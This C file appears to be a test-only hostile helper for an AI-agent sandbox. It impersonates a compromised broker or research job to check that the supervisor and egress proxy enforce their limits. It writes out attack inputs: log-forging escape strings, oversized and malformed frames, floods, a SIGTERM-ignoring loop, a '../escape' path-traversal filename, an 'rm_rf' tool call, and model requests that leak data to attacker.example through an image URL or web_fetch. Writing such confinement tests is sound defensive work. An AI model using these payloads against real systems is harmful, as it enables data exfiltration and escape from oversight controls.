/*
 * rtsandbox-hostile: a broker or research job that runs someone else's
 * code, for the tests of DESIGN.md 1, invariants 6 to 10 (test builds
 * only).  Installed in a helper directory (rtsandboxd -x) in place of
 * rtsandbox-broker and rtsandbox-research; for a channel whose segment
 * starts with "hostile_" it plays the attack the rest of the segment
 * names, on the pipes the real one would have, and logs what came back;
 * for any other channel it execs the real helper (<name>-real beside it),
 * so that other channels work as ever.
 *
 * It is the attacker: it builds frames by hand, sends what the message
 * table refuses, and never confines itself.
 */
#include <sys/socket.h>
#include <sys/uio.h>

#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <limits.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <cjson/cJSON.h>

#include "frame.h"
#include "proc.h"

/*
 * A string that would forge log lines if logged as it is: a line of its own
 * with a journald priority, a carriage return, a terminal escape and a C1
 * control.  test_hostile.py looks for "FORGED <what>" in the log.
 */
#define FORGE(what)	"x\n<2>FORGED " what "\r\x1b[2J\xc2\x85"
/* The same, escaped for a JSON text. */
#define FORGE_JSON(what) "x\\n<2>FORGED " what "\\r\\u001b[2J\\u0085"

static const char	*hcase = "";
static int		 research;
static int		 listen_fd = -1;

/* One write per line, as log.c: the daemon's lines go to the same file. */
static void
vsay(const char *fmt, va_list ap)
{
	char	 line[1024];
	int	 n, k;

	n = snprintf(line, sizeof(line), "hostile[%s]: ", hcase);
	if (n < 0 || (size_t)n >= sizeof(line) - 1)
		n = 0;
	k = vsnprintf(line + n, sizeof(line) - 1 - n, fmt, ap);
	if (k > 0)
		n += (size_t)k < sizeof(line) - 1 - n ? k :
		    (int)(sizeof(line) - 2 - n);
	line[n++] = '\n';
	(void)!write(STDERR_FILENO, line, n);
}

static void __attribute__((format(printf, 1, 2)))
say(const char *fmt, ...)
{
	va_list	 ap;

	va_start(ap, fmt);
	vsay(fmt, ap);
	va_end(ap);
}

static void __attribute__((noreturn, format(printf, 1, 2)))
die(const char *fmt, ...)
{
	va_list	 ap;

	va_start(ap, fmt);
	vsay(fmt, ap);
	va_end(ap);
	exit(1);
}

/* Any frame, any descriptor: the header, the JSON, the data; 0 when
 * sent, -1 when the peer is gone. */
static int
send_raw(int fd, const void *json, size_t jlen, uint32_t hdr_json,
    const void *data, size_t dlen, int passfd)
{
	union {
		struct cmsghdr	 h;
		char		 buf[CMSG_SPACE(sizeof(int))];
	} cm;
	uint8_t		 hdr[FRAME_HDR_LEN];
	struct iovec	 iov[3];
	struct msghdr	 mh;
	struct cmsghdr	*c;

	frame_header_write(hdr, hdr_json, dlen);
	memset(&mh, 0, sizeof(mh));
	iov[0].iov_base = hdr;
	iov[0].iov_len = sizeof(hdr);
	iov[1].iov_base = (void *)json;
	iov[1].iov_len = jlen;
	iov[2].iov_base = (void *)data;
	iov[2].iov_len = dlen;
	mh.msg_iov = iov;
	mh.msg_iovlen = 3;
	if (passfd != -1) {
		memset(&cm, 0, sizeof(cm));
		mh.msg_control = cm.buf;
		mh.msg_controllen = sizeof(cm.buf);
		c = CMSG_FIRSTHDR(&mh);
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_RIGHTS;
		c->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(c), &passfd, sizeof(int));
	}
	if (sendmsg(fd, &mh, MSG_NOSIGNAL) == -1) {
		say("sendmsg: %s", strerror(errno));
		return -1;
	}
	return 0;
}

/* o as one frame (o is freed); as send_raw(). */
static int
send_obj(int fd, cJSON *o, const void *data, size_t dlen, int passfd)
{
	char	*s = cJSON_PrintUnformatted(o);
	int	 rc;

	if (s == NULL)
		die("out of memory");
	rc = send_raw(fd, s, strlen(s), strlen(s), data, dlen, passfd);
	free(s);
	cJSON_Delete(o);
	return rc;
}

static cJSON *
obj(const char *t)
{
	cJSON	*o = cJSON_CreateObject();

	cJSON_AddStringToObject(o, "t", t);
	return o;
}

/* A frame from fd, as a parsed object (NULL at EOF); data in *data. */
static cJSON *
recv_obj(int fd, uint8_t **data, size_t *dlen, int *passed)
{
	static const struct frame_limits lim = { 256u << 20, 256u << 20 };
	struct frame	 f;
	uint8_t		*json = NULL, *d = NULL;
	cJSON		*o;
	int		 i;

	if (frame_recv_blocking(fd, &lim, &f, &json, &d) != FRAME_OK)
		return NULL;
	for (i = 0; i < f.f_nfds; i++)
		if (passed != NULL && i == 0)
			*passed = f.f_fds[0];
		else
			close(f.f_fds[i]);
	o = cJSON_ParseWithLength((const char *)json, f.f_json_len);
	free(json);
	if (data != NULL) {
		*data = d;
		*dlen = f.f_data_len;
	} else
		free(d);
	if (o == NULL)
		die("unreadable frame");
	return o;
}

static const char *
type_of(const cJSON *o)
{
	const cJSON	*t = cJSON_GetObjectItemCaseSensitive(o, "t");

	return cJSON_IsString(t) ? t->valuestring : "?";
}

/* Bring-up: every configuration frame up to config_done, then ready. */
static void
bring_up(void)
{
	cJSON	*o;

	for (;;) {
		if ((o = recv_obj(FD_PARENT, NULL, NULL, &listen_fd)) == NULL)
			die("the supervisor went away during bring-up");
		if (strcmp(type_of(o), "config_done") == 0) {
			cJSON_Delete(o);
			break;
		}
		cJSON_Delete(o);
	}
	if (strcmp(hcase, "forge_refused") == 0) {
		o = obj("refused");
		cJSON_AddStringToObject(o, "error", FORGE("refused"));
		send_obj(FD_PARENT, o, NULL, 0, -1);
		say("refused");
		return;
	}
	send_obj(FD_PARENT, obj("ready"), NULL, 0, -1);
	if (!research) {
		o = obj("brk_event");
		cJSON_AddStringToObject(o, "kind", "worker_ready");
		cJSON_AddStringToObject(o, "route", "/worker/ready");
		cJSON_AddNumberToObject(o, "status", 200);
		send_obj(FD_PARENT, o, NULL, 0, -1);
	}
	say("up");
}

/* The test's signal to attack with no turn bound: "knock" on the
 * broker's socket, once channel.start has answered.  The worker in the
 * container connects too; it gets nothing. */
static void
wait_knock(void)
{
	char	 buf[8];
	ssize_t	 n;
	int	 fd;

	if (listen_fd == -1)
		die("no listening socket");
	if (fcntl(listen_fd, F_SETFL, 0) == -1)
		die("fcntl: %s", strerror(errno));
	for (;;) {
		while ((fd = accept4(listen_fd, NULL, NULL, 0)) == -1 &&
		    errno == EINTR)
			;
		if (fd == -1)
			die("accept: %s", strerror(errno));
		n = read(fd, buf, sizeof(buf));
		close(fd);
		if (n == 5 && memcmp(buf, "knock", 5) == 0)
			break;
	}
	say("knocked");
}

/* Frames from fd up to one of type t. */
static void
wait_for(int fd, const char *t)
{
	cJSON	*o;
	int	 found;

	do {
		if ((o = recv_obj(fd, NULL, NULL, NULL)) == NULL)
			die("the edge closed before %s", t);
		found = strcmp(type_of(o), t) == 0;
		cJSON_Delete(o);
	} while (!found);
}

/* The turn the supervisor hands over (its id, to be freed). */
static char *
wait_turn(void)
{
	cJSON	*o, *id;
	char	*turn;

	for (;;) {
		if ((o = recv_obj(FD_PARENT, NULL, NULL, NULL)) == NULL)
			die("the supervisor went away before a turn");
		if (strcmp(type_of(o), "brk_submit") == 0)
			break;
		cJSON_Delete(o);
	}
	id = cJSON_GetObjectItemCaseSensitive(o, "turn_id");
	if (!cJSON_IsString(id) || (turn = strdup(id->valuestring)) == NULL)
		die("a turn without an id");
	cJSON_Delete(o);
	say("turn %s bound", turn);
	return turn;
}

static uint64_t	 next_call = 1;

/* One egr_call; its id. */
static uint64_t
call(const char *kind, const char *path, const char *server,
    const char *turn, const char *body)
{
	cJSON	*o = obj("egr_call"), *a;
	uint64_t id = next_call++;

	cJSON_AddNumberToObject(o, "call", id);
	cJSON_AddStringToObject(o, "kind", kind);
	cJSON_AddStringToObject(o, "path", path);
	if (server != NULL)
		cJSON_AddStringToObject(o, "server", server);
	if (turn != NULL)
		cJSON_AddStringToObject(o, "turn_id", turn);
	a = cJSON_AddArrayToObject(o, "hnames");
	a = cJSON_AddArrayToObject(o, "hvalues");
	(void)a;
	if (send_obj(FD_EGRESS, o, body, strlen(body), -1) == -1)
		return 0;
	return id;
}

/* Egress's frames up to the end of call id: its status, or 200 when it
 * ended well; -1 when egress closed the edge. */
static int
wait_end(uint64_t id)
{
	cJSON	*o, *c, *ok, *st;
	int	 status;

	for (;;) {
		if ((o = recv_obj(FD_EGRESS, NULL, NULL, NULL)) == NULL) {
			say("egress closed the edge");
			return -1;
		}
		c = cJSON_GetObjectItemCaseSensitive(o, "call");
		if (strcmp(type_of(o), "egr_end") == 0 && cJSON_IsNumber(c) &&
		    (uint64_t)c->valuedouble == id)
			break;
		cJSON_Delete(o);
	}
	ok = cJSON_GetObjectItemCaseSensitive(o, "ok");
	st = cJSON_GetObjectItemCaseSensitive(o, "status");
	status = cJSON_IsTrue(ok) ? 200 : cJSON_IsNumber(st) ?
	    (int)st->valuedouble : 0;
	cJSON_Delete(o);
	say("call %llu ended: %d", (unsigned long long)id, status);
	return status;
}

static const char	 model_ok[] = "{\"model\":\"claude-test\",\"messages\":"
    "[{\"role\":\"user\",\"content\":\"hi\"}],\"max_tokens\":1024}";

static void
model_call(const char *turn, const char *body)
{
	wait_end(call("model", "/v1/messages", NULL, turn, body));
}

static int
tool_call(uint64_t id, const char *turn, const char *name, const char *input)
{
	cJSON	*o = obj("brk_tool_call");

	cJSON_AddNumberToObject(o, "id", id);
	cJSON_AddStringToObject(o, "turn_id", turn);
	cJSON_AddStringToObject(o, "name", name);
	return send_obj(FD_PARENT, o, input, strlen(input), -1);
}

/* The answer to tool call id: 1, or 0 once the supervisor closed the
 * edge. */
static int
wait_tool_answer(uint64_t id)
{
	cJSON	*o, *i;
	int	 found;

	for (;;) {
		if ((o = recv_obj(FD_PARENT, NULL, NULL, NULL)) == NULL) {
			say("the supervisor closed the edge");
			return 0;
		}
		i = cJSON_GetObjectItemCaseSensitive(o, "id");
		found = strcmp(type_of(o), "brk_tool_answer") == 0 &&
		    cJSON_IsNumber(i) && (uint64_t)i->valuedouble == id;
		cJSON_Delete(o);
		if (found)
			return 1;
	}
}

/* What the real broker says of the model calls it sent to egress: of one
 * (calls 0: no count), or with a count of a batch. */
static void
calls_event(const char *turn, const char *kind, int calls)
{
	cJSON	*o = obj("brk_event");

	cJSON_AddStringToObject(o, "kind", kind);
	cJSON_AddStringToObject(o, "route", "/anthropic/v1/messages");
	cJSON_AddNumberToObject(o, "status", 0);
	cJSON_AddStringToObject(o, "turn_id", turn);
	if (calls != 0)
		cJSON_AddNumberToObject(o, "calls", calls);
	send_obj(FD_PARENT, o, NULL, 0, -1);
}

static void
call_event(const char *turn)
{
	calls_event(turn, "model_call", 0);
}

static void
result(const char *turn, const char *json)
{
	cJSON	*o = obj("brk_result");

	cJSON_AddStringToObject(o, "turn_id", turn);
	send_obj(FD_PARENT, o, json, strlen(json), -1);
}

/* The start of a frame whose data is declared 100 MiB long. */
static void
big_header(int fd, const char *json)
{
	static uint8_t	 some[65536];
	uint8_t		 hdr[FRAME_HDR_LEN];

	memset(some, 'a', sizeof(some));
	frame_header_write(hdr, strlen(json), 100u << 20);
	if (write(fd, hdr, sizeof(hdr)) != (ssize_t)sizeof(hdr) ||
	    write(fd, json, strlen(json)) != (ssize_t)strlen(json) ||
	    write(fd, some, sizeof(some)) != (ssize_t)sizeof(some))
		say("write: %s", strerror(errno));
}

/* A string of n copies of c, freed by the caller. */
static char *
chars(size_t n, char c)
{
	char	*s;

	if ((s = malloc(n + 1)) == NULL)
		die("out of memory");
	memset(s, c, n);
	s[n] = '\0';
	return s;
}

/*
 * Model calls whose body the rebuild never writes, at the bound turn's
 * level (low) or the research job's: 1 when hcase is one of them.  Each
 * carries the real shape of an attack: the upstream would fetch the url,
 * read the file or run the server tool with the credential, or think at
 * its default effort, high.
 */
static int
content_attack(const char *turn, const char *name)
{
	static const struct {
		const char	*ca_name;
		const char	*ca_body;
	} cases[] = {
		{ "adaptive", "{\"model\":\"claude-test\",\"max_tokens\":"
		    "1024,\"messages\":[{\"role\":\"user\",\"content\":"
		    "\"hi\"}],\"thinking\":{\"type\":\"adaptive\"}}" },
		{ "url_image", "{\"model\":\"claude-test\",\"max_tokens\":"
		    "1024,\"messages\":[{\"role\":\"user\",\"content\":[{"
		    "\"type\":\"image\",\"source\":{\"type\":\"url\","
		    "\"url\":\"https://attacker.example/leak?d=c2VjcmV0\"}},"
		    "{\"type\":\"text\",\"text\":\"describe\"}]}]}" },
		{ "file_source", "{\"model\":\"claude-test\",\"max_tokens\":"
		    "1024,\"messages\":[{\"role\":\"user\",\"content\":[{"
		    "\"type\":\"image\",\"source\":{\"type\":\"file\","
		    "\"file_id\":\"file_011CNha8iCJcU1wXNR6q4V8w\"}}]}]}" },
		{ "server_tool", "{\"model\":\"claude-test\",\"max_tokens\":"
		    "1024,\"messages\":[{\"role\":\"user\",\"content\":"
		    "\"hi\"},{\"role\":\"assistant\",\"content\":[{\"type\":"
		    "\"server_tool_use\",\"id\":\"srvtoolu_01\",\"name\":"
		    "\"web_fetch\",\"input\":{\"url\":\"https://attacker."
		    "example/\"}}]}]}" },
	};
	size_t	 i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		if (strcmp(name, cases[i].ca_name) == 0) {
			model_call(turn, cases[i].ca_body);
			return 1;
		}
	return 0;
}

/*
 * The attacks.  Those on egress need no turn or the one bound; those on
 * the supervisor need the turn.
 */
static void
attack(void)
{
	char	*turn = NULL, *s, *r;
	size_t	 i;

	/* Egress, with no turn bound: the startup window's rules. */
	if (strcmp(hcase, "forge_refused") == 0)
		return;
	if (strncmp(hcase, "turn_", 5) != 0)
		wait_knock();
	/* Strings that reach the log, each with a line of its own in it. */
	if (strcmp(hcase, "forge_mcp_server") == 0) {
		wait_end(call("mcp", "", "alpha" FORGE("mcp server"), NULL,
		    "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":"
		    "\"initialize\",\"params\":{}}"));
		return;
	}
	if (strcmp(hcase, "forge_stray_turn") == 0) {
		model_call(FORGE("stray turn"), model_ok);
		return;
	}
	if (strcmp(hcase, "forge_type") == 0) {
		send_obj(FD_PARENT, obj(FORGE("type")), NULL, 0, -1);
		return;
	}
	if (strcmp(hcase, "forge_key") == 0) {
		cJSON	*o = obj("brk_event");

		cJSON_AddStringToObject(o, "kind", "worker_ready");
		cJSON_AddStringToObject(o, "route", "/worker/ready");
		cJSON_AddNumberToObject(o, "status", 200);
		cJSON_AddNumberToObject(o, FORGE("key"), 1);
		send_obj(FD_PARENT, o, NULL, 0, -1);
		return;
	}
	if (strcmp(hcase, "mcp_server") == 0) {
		wait_end(call("mcp", "", "beta", NULL, "{\"jsonrpc\":\"2.0\","
		    "\"id\":1,\"method\":\"initialize\",\"params\":{}}"));
		return;
	}
	if (strcmp(hcase, "mcp_method") == 0) {
		wait_end(call("mcp", "", "alpha", NULL, "{\"jsonrpc\":\"2.0\","
		    "\"id\":1,\"method\":\"resources/list\"}"));
		return;
	}
	if (strcmp(hcase, "mcp_window_call") == 0) {
		wait_end(call("mcp", "", "alpha", NULL, "{\"jsonrpc\":\"2.0\","
		    "\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":"
		    "\"search\",\"arguments\":{}}}"));
		return;
	}
	if (strcmp(hcase, "no_turn") == 0) {
		model_call(NULL, model_ok);
		return;
	}
	if (strcmp(hcase, "stray_turn") == 0) {
		model_call("turn-that-never-was", model_ok);
		return;
	}
	if (strcmp(hcase, "oversize") == 0) {
		send_raw(FD_EGRESS, "{}", 2, 0x7ffffff0u, NULL, 0, -1);
		wait_end(0);
		return;
	}
	if (strcmp(hcase, "descriptor") == 0) {
		static const char j[] = "{\"t\":\"egr_call\",\"call\":1,\"kind\":"
		    "\"model\",\"path\":\"/v1/messages\",\"hnames\":[],"
		    "\"hvalues\":[]}";

		send_raw(FD_EGRESS, j, sizeof(j) - 1, sizeof(j) - 1, model_ok,
		    sizeof(model_ok) - 1, FD_PARENT);
		wait_end(1);
		return;
	}
	if (strcmp(hcase, "garbage") == 0) {
		static const char junk[] = "\x00\x00\x00\x05\x00\x00\x00\x00"
		    "hello{not json at all";

		if (write(FD_EGRESS, junk, sizeof(junk) - 1) == -1)
			say("write: %s", strerror(errno));
		wait_end(0);
		return;
	}
	if (strcmp(hcase, "sup_oversize") == 0) {
		send_raw(FD_PARENT, "{}", 2, 0x7ffffff0u, NULL, 0, -1);
		return;
	}
	if (strcmp(hcase, "sup_garbage") == 0) {
		static const char junk[] = "\x00\x00\x00\x0c\x00\x00\x00\x00"
		    "{\"t\":\"nope\"}";

		if (write(FD_PARENT, junk, sizeof(junk) - 1) == -1)
			say("write: %s", strerror(errno));
		return;
	}

	if (strcmp(hcase, "sup_flood") == 0) {
		/* Tool calls of no turn, their answers never read, until
		 * the supervisor lets go of this end. */
		for (i = 1; tool_call(i, "turn-that-never-was", "roll_dice",
		    "{}") == 0; i++)
			;
		say("%zu tool calls sent", i - 1);
		return;
	}
	if (strcmp(hcase, "sigterm") == 0) {
		/* Deaf to SIGTERM and to the end of its pipe: MCP metadata
		 * calls, two a second, for as long as egress takes them. */
		signal(SIGTERM, SIG_IGN);
		for (;;) {
			uint64_t	 id = call("mcp", "", "alpha", NULL,
			    "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":"
			    "\"ping\"}");

			if (id == 0 || wait_end(id) == -1)
				break;
			/* poll: nanosleep is outside the inherited filter */
			(void)poll(NULL, 0, 500);
		}
		say("egress let go; still here");
		for (;;)
			(void)poll(NULL, 0, -1);
	}
	if (strncmp(hcase, "big_header", 10) == 0) {
		/* A frame declared at the edges' 100 MiB, to the supervisor
		 * and to egress, of which 64 KiB come and nothing more. */
		big_header(FD_PARENT, "{\"t\":\"brk_result\"}");
		big_header(FD_EGRESS, "{\"t\":\"egr_call\"}");
		return;
	}

	hcase += 5;	/* "turn_" */
	turn = wait_turn();
	if (content_attack(turn, hcase)) {
		free(turn);
		return;
	}
	/* Egress, within the bound turn. */
	if (strcmp(hcase, "mcp_tool") == 0)
		wait_end(call("mcp", "", "alpha", turn, "{\"jsonrpc\":\"2.0\","
		    "\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":"
		    "\"wipe\",\"arguments\":{}}}"));
	else if (strcmp(hcase, "model") == 0)
		model_call(turn, "{\"model\":\"other-model\",\"messages\":[]}");
	else if (strcmp(hcase, "max_tokens") == 0)
		model_call(turn, "{\"model\":\"claude-test\",\"messages\":[],"
		    "\"max_tokens\":200000}");
	else if (strcmp(hcase, "thinking") == 0)
		model_call(turn, "{\"model\":\"claude-test\",\"messages\":[],"
		    "\"thinking\":{\"type\":\"enabled\",\"budget_tokens\":"
		    "32768}}");
	else if (strcmp(hcase, "effort") == 0)
		model_call(turn, "{\"model\":\"claude-test\",\"messages\":[],"
		    "\"output_config\":{\"effort\":\"max\"}}");
	else if (strcmp(hcase, "field") == 0)
		model_call(turn, "{\"model\":\"claude-test\",\"messages\":[],"
		    "\"mcp_servers\":[{\"type\":\"url\",\"url\":"
		    "\"https://example.org/\",\"name\":\"x\"}]}");
	else if (strcmp(hcase, "kind") == 0)
		wait_end(call("model", "/v1/files", NULL, turn, model_ok));
	else if (strcmp(hcase, "budget") == 0) {
		/* the configuration's max_calls is 6 */
		for (i = 0; i < 7; i++)
			if (wait_end(call("model", "/v1/messages", NULL, turn,
			    model_ok)) != 200)
				break;
	} else if (strcmp(hcase, "in_flight") == 0) {
		uint64_t	 id[5];

		/* the upstream holds each call: all five are in flight */
		for (i = 0; i < 5; i++)
			id[i] = call("model", "/v1/messages", NULL, turn,
			    model_ok);
		for (i = 0; i < 5; i++)
			if (wait_end(id[i]) == -1)
				break;
	} else if (strcmp(hcase, "forge_mcp_tool") == 0)
		wait_end(call("mcp", "", "alpha", turn, "{\"jsonrpc\":\"2.0\","
		    "\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":"
		    "\"" FORGE_JSON("mcp tool") "\",\"arguments\":{}}}"));
	else if (strcmp(hcase, "forge_field") == 0)
		model_call(turn, "{\"model\":\"claude-test\",\"messages\":[],"
		    "\"" FORGE_JSON("field") "\":1}");
	/* The supervisor, within the bound turn. */
	else if (strcmp(hcase, "forge_tool") == 0)
		tool_call(1, turn, FORGE("tool"), "{}");
	else if (strcmp(hcase, "host_tool") == 0)
		tool_call(1, turn, "rm_rf", "{}");
	else if (strcmp(hcase, "tool_dup") == 0) {
		tool_call(7, turn, "roll_dice", "{\"sides\":6}");
		tool_call(7, turn, "roll_dice", "{\"sides\":20}");
	} else if (strcmp(hcase, "tool_flood") == 0) {
		for (i = 1; i <= 5; i++)
			tool_call(i, turn, "roll_dice", "{\"sides\":6}");
	} else if (strcmp(hcase, "ended_flood") == 0) {
		/* The turn answered and unbound, then model calls for it,
		 * their answers never read, until egress lets go. */
		result(turn, "{\"ok\":true,\"text\":\"done\",\"files\":[]}");
		wait_for(FD_PARENT, "brk_unbind");
		(void)poll(NULL, 0, 300);
		for (i = 0; call("model", "/v1/messages", NULL, turn,
		    model_ok) != 0; i++)
			;
		say("%zu calls sent", i);
	} else if (strcmp(hcase, "events") == 0) {
		cJSON	*o;

		/* taken three times over, then seven calls told, one past
		 * the configuration's max_calls of 6 */
		for (i = 0; i < 3; i++) {
			o = obj("brk_delivered");
			cJSON_AddStringToObject(o, "turn_id", turn);
			send_obj(FD_PARENT, o, NULL, 0, -1);
		}
		for (i = 0; i < 7; i++)
			call_event(turn);
	} else if (strcmp(hcase, "events_batch") == 0) {
		/* two calls told one by one, then a batch of five: one past
		 * max_calls */
		call_event(turn);
		call_event(turn);
		calls_event(turn, "model_call", 5);
	} else if (strcmp(hcase, "events_count_one") == 0)
		/* a batch of one is said with no count */
		calls_event(turn, "model_call", 1);
	else if (strcmp(hcase, "events_count_max") == 0)
		calls_event(turn, "mcp_call", 1000);
	else if (strcmp(hcase, "events_count_huge") == 0)
		calls_event(turn, "mcp_call", 1001);
	else if (strcmp(hcase, "events_count_kind") == 0)
		calls_event(turn, "compact_fallback", 2);
	else if (strcmp(hcase, "tool_budget") == 0) {
		/* one budget: three model calls told, then tool calls, one
		 * at a time, until the fourth breaks it */
		for (i = 0; i < 3; i++)
			call_event(turn);
		for (i = 1; i <= 4; i++) {
			tool_call(i, turn, "roll_dice", "{\"sides\":6}");
			if (!wait_tool_answer(i))
				break;
		}
	} else if (strcmp(hcase, "tool_input") == 0)
		tool_call(1, turn, "roll_dice", "[1,2,3]");
	else if (strcmp(hcase, "result_text") == 0) {
		s = chars(100001, 'a');
		if (asprintf(&r, "{\"ok\":true,\"text\":\"%s\",\"files\":[]}",
		    s) == -1)
			die("out of memory");
		result(turn, r);
		free(r);
		free(s);
	} else if (strcmp(hcase, "result_error") == 0) {
		s = chars(10001, 'e');
		if (asprintf(&r, "{\"ok\":false,\"error\":\"%s\"}", s) == -1)
			die("out of memory");
		result(turn, r);
		free(r);
		free(s);
	} else if (strcmp(hcase, "result_files") == 0)
		result(turn, "{\"ok\":true,\"text\":\"x\",\"files\":[{\"name\":"
		    "\"../escape\",\"data\":\"aGk=\"}]}");
	else
		say("no such attack");
	free(turn);
}

/* n frames of type t at once, ids from 1, each with its one field. */
static void
research_flood(const char *t, size_t n)
{
	cJSON	*o;
	size_t	 i;

	for (i = 1; i <= n; i++) {
		o = obj(t);
		cJSON_AddNumberToObject(o, "id", (double)i);
		if (strcmp(t, "res_search") == 0) {
			cJSON_AddStringToObject(o, "query", "rtsandbox");
			send_obj(FD_PARENT, o, NULL, 0, -1);
		} else {
			/* refused by egress at once: no fetch runs */
			cJSON_AddStringToObject(o, "url", "ftp://example.org/");
			cJSON_AddNumberToObject(o, "deadline_ms", 1000);
			cJSON_AddNumberToObject(o, "max_bytes", 1024);
			cJSON_AddNumberToObject(o, "max_redirects", 0);
			send_obj(FD_EGRESS, o, NULL, 0, -1);
		}
	}
}

static void
research_attack(void)
{
	/* "research_adaptive" at level low, "research_adaptive_none"
	 * without a level */
	if (strncmp(hcase, "research_", 9) == 0 &&
	    (strcmp(hcase + 9, "adaptive") == 0 ||
	    strcmp(hcase + 9, "adaptive_none") == 0)) {
		content_attack(NULL, "adaptive");
		return;
	}
	/* a job runs at most 16 tool calls at once, 24 x 16 in all */
	if (strcmp(hcase, "research_searches") == 0)
		research_flood("res_search", 24 * 16 + 1);
	else if (strcmp(hcase, "research_search_flight") == 0)
		research_flood("res_search", 17);
	else if (strcmp(hcase, "research_fetches") == 0)
		research_flood("egr_fetch", 24 * 16 + 1);
	else if (strcmp(hcase, "research_model") == 0)
		model_call(NULL, "{\"model\":\"other-model\",\"messages\":[],"
		    "\"max_tokens\":1024}");
	else if (strcmp(hcase, "research_mcp") == 0)
		wait_end(call("mcp", "", "alpha", NULL, "{\"jsonrpc\":\"2.0\","
		    "\"id\":1,\"method\":\"ping\"}"));
	else if (strcmp(hcase, "research_forge_error") == 0) {
		cJSON	*o = obj("res_report");

		cJSON_AddFalseToObject(o, "ok");
		cJSON_AddStringToObject(o, "error", FORGE("research error"));
		send_obj(FD_PARENT, o, NULL, 0, -1);
	}
	else
		say("no such attack");
}

/* What comes after, until the supervisor stops this process. */
static void __attribute__((noreturn))
linger(void)
{
	struct pollfd	 pfd[2];
	cJSON		*o;
	int		 i;

	pfd[0].fd = FD_PARENT;
	pfd[1].fd = FD_EGRESS;
	pfd[0].events = pfd[1].events = POLLIN;
	for (;;) {
		if (poll(pfd, 2, -1) == -1 && errno != EINTR)
			die("poll: %s", strerror(errno));
		for (i = 0; i < 2; i++) {
			if (pfd[i].fd == -1 || !(pfd[i].revents &
			    (POLLIN | POLLHUP | POLLERR)))
				continue;
			if ((o = recv_obj(pfd[i].fd, NULL, NULL, NULL)) ==
			    NULL) {
				if (i == 0)
					exit(0);
				pfd[i].fd = -1;
				continue;
			}
			say("%s sent %s", i == 0 ? "the supervisor" :
			    "egress", type_of(o));
			cJSON_Delete(o);
		}
	}
}

int
main(int argc, char *argv[])
{
	char		 self[PATH_MAX], real[PATH_MAX + 8];
	const char	*name = NULL, *base = basename(argv[0]);
	ssize_t		 n;
	int		 i;

	research = strstr(base, "research") != NULL;
	for (i = 1; i < argc - 1; i++)
		if (strcmp(argv[i], "-n") == 0)
			name = argv[i + 1];
	if (name == NULL || strncmp(name, "hostile_", 8) != 0) {
		/* Another channel: the real helper, untouched. */
		if ((n = readlink("/proc/self/exe", self, sizeof(self) - 1)) ==
		    -1)
			die("/proc/self/exe: %s", strerror(errno));
		self[n] = '\0';
		snprintf(real, sizeof(real), "%s-real", self);
		execv(real, argv);
		die("exec %s: %s", real, strerror(errno));
	}
	hcase = name + 8;
	srand(time(NULL));
	bring_up();
	if (research)
		research_attack();
	else
		attack();
	linger();
}
